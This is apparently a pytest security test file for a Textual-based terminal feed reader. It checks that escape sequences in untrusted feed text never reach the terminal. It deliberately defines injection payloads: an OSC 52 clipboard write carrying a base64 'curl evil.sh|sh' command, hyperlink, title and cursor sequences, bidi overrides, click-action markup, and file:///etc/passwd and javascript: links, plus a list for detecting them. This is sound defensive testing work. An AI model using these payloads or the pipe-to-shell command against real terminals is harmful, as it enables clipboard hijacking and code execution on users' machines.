"""Terminal output audit: the bytes the real app writes never carry an escape sequence from feed or page text.

Textual's headless test driver writes nothing, so these tests make it look like a real terminal driver
(`is_headless` False) and record every string the app hands to `Driver.write`: the exact bytes a terminal would
get. The data goes into the store *unsanitised* (straight through `Store.apply_fetch`, past the parser's
clean-up), so what is tested is the UI's own boundary. A canary test proves the recorder sees a leak.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from rich.text import Text
from textual.app import App, ComposeResult
from textual.drivers.headless_driver import HeadlessDriver
from textual.widgets import Static

from reader.models import Article, FetchOutcome, ParsedFeed, ParsedItem
from reader.store.feeds import Store
from reader.ui.app import ReaderApp, make_app
from reader.ui.protocol import ArticleLoad, PollSummary
from reader.ui.settings import UISettings

NOW = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)
CLIP = "Y3VybCBldmlsLnNofHNo"  # base64 of "curl evil.sh|sh": an OSC 52 clipboard write's payload
OSC52 = f"\x1b]52;c;{CLIP}\x07"
OSC8 = "\x1b]8;;http://evil.example/osc8\x1b\\click\x1b]8;;\x1b\\"
TITLE = "\x1b]0;pwned-window\x07"
CSI = "\x1b[2J\x1b[10A\x1b[?1049l"
C1 = "\x9b31m\x9d0;c1-title\x9c\x90qdcs\x9c"
DCS = "\x1bPq#0;2;0;0;0\x1b\\"
BIDI = "\u202egnp.exe\u202c\u200b"
EVIL = f"{OSC52}{OSC8}{TITLE}{CSI}{C1}{DCS}{BIDI}"

# What must never appear in the output: each is a sequence (or payload) only the data carries.
FORBIDDEN = {
    "OSC 52 clipboard write": CLIP,
    "OSC 52 introducer": "\x1b]52;",
    "window title change": "\x1b]0;",
    "window title text": "pwned-window",
    "clear screen": "\x1b[2J",
    "cursor up": "\x1b[10A",
    "leave the alternate screen": "\x1b[?1049l",
    "DCS": "\x1bP",
    "C1 CSI": "\x9b",
    "C1 OSC": "\x9d",
    "C1 DCS": "\x90",
    "C1 ST": "\x9c",
    "BEL": "\x07",  # (after Textual's own pointer-shape OSC 22 is set aside, see Recorder.leaks)
    "right-to-left override": "\u202e",
    "zero-width space": "\u200b",
}
# OSC 8 hyperlinks are Textual's own for Markdown links; one may only ever point at an http(s) URL, and never
# at the URL the data's own OSC 8 carried.
OSC8_TARGET = re.compile(r"\x1b\]8;[^;\x07\x1b]*;([^\x07\x1b]*)")
TEXTUAL_OWN = re.compile(r"\x1b\]22;[a-z-]*\x07")  # Textual sets the mouse pointer shape (OSC 22)


class Recorder:
    def __init__(self) -> None:
        self.chunks: list[str] = []

    @property
    def output(self) -> str:
        return "".join(self.chunks)

    def leaks(self) -> list[str]:
        out = TEXTUAL_OWN.sub("", self.output)
        found = [name for name, needle in FORBIDDEN.items() if needle in out]
        for target in sorted(set(OSC8_TARGET.findall(out))):
            if target and (not target.startswith(("http://", "https://")) or "evil.example/osc8" in target):
                found.append(f"OSC 8 hyperlink to {target!r}")
        return found


@pytest.fixture
def recorder(monkeypatch: pytest.MonkeyPatch) -> Iterator[Recorder]:
    """Record what the app writes to the terminal, as a real driver would receive it."""
    rec = Recorder()
    monkeypatch.setattr(HeadlessDriver, "is_headless", property(lambda self: False))
    monkeypatch.setattr(HeadlessDriver, "write", lambda self, data: rec.chunks.append(data))
    yield rec


class AuditServices:
    """The Services the UI calls, over a real store; articles and poll failures carry hostile text."""

    def __init__(self, db: Path, article: Article, failures: Sequence[tuple[str, str, str]]) -> None:
        self.db = db
        self.article = article
        self.failures = tuple(failures)

    def open_store(self) -> Store:
        return Store.open(self.db)

    def poll(
        self,
        feed_ids: Sequence[int] | None,
        progress: Callable[[int, int, int], None],
        *,
        due_only: bool = False,
    ) -> PollSummary:
        progress(1, 1, 0)
        return PollSummary(new_items=0, failures=self.failures, offline=False, total=1)

    def load_article(self, item_id: int, *, page: bool = False) -> ArticleLoad:
        return ArticleLoad(self.article, None, False)

    def cached_article(self, item_id: int) -> Article | None:
        return None

    def fulltext_policy(self, feed_id: int) -> str:
        return "on-open"


HOSTILE_TITLES = [
    f"Clip {OSC52} board",
    f"Link {OSC8} here",
    f"Title {TITLE} change {CSI}",
    f"C1 {C1} and DCS {DCS}",
    f"Bidi {BIDI} name",
    "[@click=app.quit]click to quit[/]",
    "[/] unbalanced [bold red]markup [link=file:///etc/passwd]local[/link]",
]


def hostile_db(tmp_path: Path) -> Path:
    db = tmp_path / "audit.db"
    with Store.open(db) as store:
        feed = store.add_feed(f"https://evil.example/feed{BIDI}", f"Evil {EVIL} feed", [f"tag{OSC52}"])
        items = [
            ParsedItem(
                key=f"k{n}",
                title=title,
                link=f"https://evil.example/{n}{OSC52}",
                author=f"Mallory {TITLE}",
                summary=f"<p>Summary {EVIL} [@click=app.quit]x[/]</p>",
                content=f"<p>Content {EVIL}</p><a href='javascript:alert(1)'>js</a>",
                published=NOW - timedelta(hours=n + 1),
                content_hash=str(n),
            )
            for n, title in enumerate(HOSTILE_TITLES)
        ]
        store.apply_fetch(
            feed,
            FetchOutcome(
                feed_url=feed.url,
                status=200,
                parsed=ParsedFeed(title=f"Doc {EVIL}", site_url=None, items=tuple(items)),
                fetched_at=NOW,
                next_due=NOW + timedelta(hours=1),
                due_reason=f"every {TITLE} hour",
            ),
        )
    return db


def hostile_article() -> Article:
    return Article(
        title=f"Article {EVIL} title [@click=app.quit]q[/]",
        byline=f"By {OSC52} someone",
        published=NOW,
        markdown=(
            f"# Heading {EVIL}\n\nParagraph {OSC52} with {OSC8} and {C1}.\n\n"
            f"[a local file](file:///etc/passwd) [js](javascript:alert(1)) [@click=app.quit]md[/]\n\n"
            f"```\ncode {CSI} {TITLE}\n```\n\n> quote {DCS} {BIDI}\n"
        ),
        text=f"Paragraph {EVIL}",
        word_count=10,
        reading_minutes=1,
        note=f"note {OSC52}",
        extractor_version="audit",
    )


def build(tmp_path: Path) -> ReaderApp:
    services = AuditServices(
        hostile_db(tmp_path),
        hostile_article(),
        failures=[
            (
                f"Evil {EVIL} feed",
                f"https://evil.example/{BIDI}",
                f"HTTP 500 {EVIL} [/] [@click=app.quit]x[/]",
            )
        ],
    )
    settings = UISettings(
        refresh_on_start=False, auto_refresh=None, now=lambda: NOW, state_path=tmp_path / "state.json"
    )
    return make_app(services, settings)  # type: ignore[arg-type]


async def test_main_screen_and_article_pane_write_no_escape_from_the_data(
    tmp_path: Path, recorder: Recorder
) -> None:
    app = build(tmp_path)
    async with app.run_test(size=(160, 45)) as pilot:
        await pilot.pause()
        for _ in HOSTILE_TITLES:  # open every item: the article pane renders the hostile article
            await pilot.press("enter")
            await app.workers.wait_for_complete()
            await pilot.pause()
            await pilot.press("j")
        await pilot.press("z")  # focus mode: the article alone, centred
        await pilot.pause()
        await pilot.press("z")
        await pilot.press("R")  # a refresh whose failure text is hostile: the notification renders it
        await app.workers.wait_for_complete()
        await pilot.pause()
        await pilot.press("H")  # the feed health screen shows URL, error and schedule reason
        await pilot.pause()
        await pilot.press("escape")
        await pilot.pause()
        assert app.is_running
    out = recorder.output
    assert len(out) > 20_000, "the recorder saw too little output to mean anything"
    assert "click to quit" in out and "Heading" in out  # the hostile items and article were on screen
    assert recorder.leaks() == [], f"data escape sequences reached the terminal: {recorder.leaks()}"


async def test_click_markup_in_a_title_runs_no_action(tmp_path: Path, recorder: Recorder) -> None:
    """Clicking on a `[@click=app.quit]` title (headline list, article header, body) must not quit the app."""
    app = build(tmp_path)
    async with app.run_test(size=(160, 45)) as pilot:
        await pilot.pause()
        screen = app.screen
        headlines = screen.query_one("HeadlineList")
        # Rows 5 and 6 (newest first) hold the markup titles: click along the text in the list, the
        # article header (which shows the title) and the body (whose Markdown holds more of it).
        for row in (5, 6):
            for x in (5, 9, 14, 20):
                await pilot.click(headlines, offset=(x, row))
            await app.workers.wait_for_complete()
            await pilot.pause()
            for x in (3, 9, 15):
                await pilot.click("#article-header", offset=(x, 0))
                await pilot.click("#article-body", offset=(x, 2))
            assert app.is_running, "a click on feed text ran an action"
        assert app.screen is screen
    assert recorder.leaks() == []


async def test_canary_the_recorder_sees_a_leak(recorder: Recorder) -> None:
    """Textual writes control bytes from widget content to the terminal (DESIGN 6): the recorder must see it."""

    class Leaky(App[None]):
        def compose(self) -> ComposeResult:
            yield Static(Text(f"canary {OSC52} {TITLE}"))

    async with Leaky().run_test(size=(80, 10)) as pilot:
        await pilot.pause()
    assert "OSC 52 clipboard write" in recorder.leaks()
